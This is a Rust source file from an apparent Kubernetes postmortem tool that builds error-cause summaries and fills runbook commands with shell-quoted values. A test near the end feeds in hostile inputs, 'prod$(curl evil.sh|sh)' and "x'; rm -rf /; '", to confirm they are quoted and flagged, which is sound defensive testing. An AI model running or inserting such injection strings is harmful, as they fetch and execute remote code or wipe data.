//! The causes (with their pods and top messages), the errors per minute, and the
//! remediation: each cause's entry with the runbook's commands filled in and why it is
//! recommended.

use std::collections::BTreeMap;

use super::{round6, t};
use crate::classify::{Cause, UNCLASSIFIED_ID};
use crate::config::Config;
use crate::correlate::remediation::{Remedy, Sighting};
use crate::correlate::target::Target;
use crate::correlate::Analysis;
use crate::model::shell_quote;
use crate::report::model::{Action, CauseSummary, MinuteBucket, PodCount, Remediation, TopMessage};

/// How the report names records that carry no pod.
const UNKNOWN_POD: &str = "(unknown pod)";

pub fn cause_docs(cfg: &Config, a: &Analysis) -> Vec<CauseSummary> {
    let causes = &cfg.causes;
    let total_events = a.table.counted;
    a.findings
        .events
        .causes
        .iter()
        .map(|c| CauseSummary {
            id: causes.id(c.cause).to_owned(),
            title: causes.title(c.cause).to_owned(),
            count: c.counts.records,
            events: c.counts.events,
            share: if total_events > 0 {
                round6(c.counts.events as f64 / total_events as f64)
            } else {
                0.0
            },
            first_seen: t(c.first),
            last_seen: t(c.last),
            by_pod: c
                .by_pod
                .iter()
                .map(|(p, n)| {
                    let pod = if p.is_empty() { UNKNOWN_POD } else { p };
                    (
                        pod.to_owned(),
                        PodCount {
                            records: n.records,
                            events: n.events,
                        },
                    )
                })
                .collect(),
            top_messages: c
                .top_messages
                .iter()
                .map(|m| TopMessage {
                    signature: m.signature.clone(),
                    example: m.example.clone(),
                    records: m.records,
                })
                .collect(),
        })
        .collect()
}

pub fn per_minute(cfg: &Config, a: &Analysis) -> Vec<MinuteBucket> {
    a.findings
        .events
        .per_minute
        .iter()
        .map(|(m, by_cause)| {
            let events: BTreeMap<String, u64> = by_cause
                .iter()
                .map(|(c, n)| (cfg.causes.id(*c).to_owned(), *n))
                .collect();
            MinuteBucket {
                minute: t(*m),
                total: events.values().sum(),
                events,
            }
        })
        .collect()
}

/// A command template filled in for the target and pod. Every value comes from the input, so
/// each is quoted for the shell when it holds anything but a name's characters, and a command
/// with a value that is not a Kubernetes name says so above it: check before running it.
fn fill(command: &str, target: &Target, pod: Option<&str>) -> String {
    let values = [
        ("namespace", target.namespace.as_str()),
        ("deployment", target.deployment.as_str()),
        ("container", target.container.as_str()),
        ("pod", pod.unwrap_or("")),
    ];
    let mut out = command.to_owned();
    let mut odd = Vec::new();
    for (name, value) in values {
        let slot = format!("{{{name}}}");
        if !out.contains(&slot) {
            continue;
        }
        if name == "pod" && pod.is_none() {
            // No record named its pod: leave a placeholder to fill in.
            out = out.replace(&slot, "POD");
            odd.push("POD: the records name no pod, put one in".to_owned());
            continue;
        }
        if !crate::model::is_kubernetes_name(value) {
            odd.push(format!(
                "{name} {} is not a Kubernetes name",
                shell_quote(value)
            ));
        }
        out = out.replace(&slot, &shell_quote(value));
    }
    if odd.is_empty() {
        out
    } else {
        format!(
            "# check before running: {} (taken from the input)\n{out}",
            odd.join("; ")
        )
    }
}

/// A cause's entry, its commands filled in for the target and `pod`.
fn cause_remediation(
    cause: &Cause,
    because: String,
    target: &Target,
    pod: Option<&str>,
) -> Remediation {
    Remediation {
        cause: cause.id.clone(),
        title: cause.title.clone(),
        source: cause.source.clone(),
        symptoms: cause.symptoms.clone(),
        solution: cause.solution.clone(),
        because,
        actions: cause
            .actions
            .iter()
            .map(|a| Action {
                title: a.title.clone(),
                command: a.command.as_deref().map(|c| fill(c, target, pod)),
            })
            .collect(),
    }
}

/// The entry for errors that match no cause: how to extend the table.
fn unclassified(because: String) -> Remediation {
    Remediation {
        cause: UNCLASSIFIED_ID.into(),
        title: "Errors matching no known cause".into(),
        source: "added".into(),
        symptoms: "error records whose message and trace match no pattern of the cause table".into(),
        solution: "Read its top messages (under Errors by type); add a cause (or patterns) for them so the next report classifies them".into(),
        because,
        actions: vec![
            Action { title: "Start from the table in effect".into(), command: Some("postmortem causes --toml > causes.toml".into()) },
            Action { title: "Add a [[cause]] whose patterns match those messages, then re-run with it".into(), command: Some("postmortem analyze --causes causes.toml <inputs>".into()) },
        ],
    }
}

/// What the cluster showed of a cause, in words: the first three sightings.
fn sightings(list: &[Sighting]) -> String {
    let said: Vec<String> = list
        .iter()
        .take(3)
        .map(|s| match s {
            Sighting::Event(e) => format!(
                "{} {} on {} ({}x)",
                e.kind,
                e.reason,
                e.object.display(),
                e.count
            ),
            Sighting::Termination {
                container,
                pod,
                reason,
                exit_code,
                finished_at,
            } => format!(
                "container {container} of {pod} terminated {reason} (exit code {exit_code}) at {}",
                finished_at.map_or("an unknown time".to_owned(), t)
            ),
        })
        .collect();
    let more = list.len().saturating_sub(3);
    format!(
        "the cluster shows it: {}{}",
        said.join("; "),
        if more > 0 {
            format!(" and {more} more")
        } else {
            String::new()
        }
    )
}

/// Why a cause is recommended: its share of the errors and whether its series fired, what
/// the cluster showed, the memory limits in effect.
fn because(r: &Remedy, doc: Option<&CauseSummary>) -> String {
    let mut parts = Vec::new();
    if let (Some(logs), Some(doc)) = (&r.logs, doc) {
        parts.push(format!(
            "{:.0}% of counted failures ({} counted, {} records){}",
            doc.share * 100.0,
            logs.counts.events,
            logs.counts.records,
            if logs.fired_pods.is_empty() {
                "; no series of this cause crossed the threshold on its own".to_owned()
            } else {
                format!("; its series fired on {}", logs.fired_pods.join(", "))
            }
        ));
    }
    if !r.sightings.is_empty() {
        parts.push(sightings(&r.sightings));
    }
    if !r.memory_limits.is_empty() {
        let limits: Vec<String> = r
            .memory_limits
            .iter()
            .map(|(limit, container, pods)| format!("{limit} ({container}) on {pods} pod(s)"))
            .collect();
        parts.push(format!(
            "memory limit in the pod export: {}",
            limits.join(", ")
        ));
    }
    parts.join("; ")
}

pub fn remediation(cfg: &Config, a: &Analysis, docs: &[CauseSummary]) -> Vec<Remediation> {
    let target = &a.findings.target;
    a.findings
        .remedies
        .iter()
        .filter_map(|r| {
            let id = cfg.causes.id(r.cause);
            let doc = docs.iter().find(|d| d.id == id);
            let because = because(r, doc);
            if id == UNCLASSIFIED_ID {
                return Some(unclassified(because));
            }
            let pod = (!r.pod.is_empty()).then_some(r.pod.as_str());
            Some(cause_remediation(
                cfg.causes.get(r.cause)?,
                because,
                target,
                pod,
            ))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::correlate::target::{DeploymentFrom, NamespaceFrom};

    fn target(namespace: &str, deployment: &str) -> Target {
        Target {
            namespace: namespace.into(),
            namespace_from: NamespaceFrom::Flag,
            deployment: deployment.into(),
            deployment_from: DeploymentFrom::Flag,
            container: "backend".into(),
        }
    }

    #[test]
    fn kubernetes_names_go_in_as_they_are() {
        let t = target("mcp-everything", "mcp-backend");
        assert_eq!(
            fill(
                "kubectl logs -n {namespace} {pod} -c {container}",
                &t,
                Some("mcp-backend-7c9d5b8f6d-x2kqp")
            ),
            "kubectl logs -n mcp-everything mcp-backend-7c9d5b8f6d-x2kqp -c backend"
        );
    }

    #[test]
    fn values_from_hostile_input_are_quoted_and_flagged() {
        let t = target("prod$(curl evil.sh|sh)", "x'; rm -rf /; '");
        let c = fill(
            "kubectl rollout restart deployment/{deployment} -n {namespace}",
            &t,
            None,
        );
        let (warning, command) = c.split_once('\n').unwrap();
        assert!(warning.starts_with("# check before running:"), "{c}");
        assert_eq!(
            command,
            r#"kubectl rollout restart deployment/'x'\''; rm -rf /; '\''' -n 'prod$(curl evil.sh|sh)'"#
        );
        // What a shell makes of it: each value one word, nothing run.
        let args = command.trim_start_matches("kubectl rollout restart ");
        let out = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!("printf '%s\\n' {args}"))
            .output()
            .unwrap();
        assert_eq!(
            String::from_utf8_lossy(&out.stdout),
            "deployment/x'; rm -rf /; '\n-n\nprod$(curl evil.sh|sh)\n"
        );
    }

    #[test]
    fn a_command_without_a_pod_says_to_fill_it_in() {
        let t = target("mcp-everything", "mcp-backend");
        let c = fill("kubectl describe pod -n {namespace} {pod}", &t, None);
        assert!(
            c.ends_with("\nkubectl describe pod -n mcp-everything POD"),
            "{c}"
        );
        assert!(c.starts_with("# check before running: POD"), "{c}");
    }
}
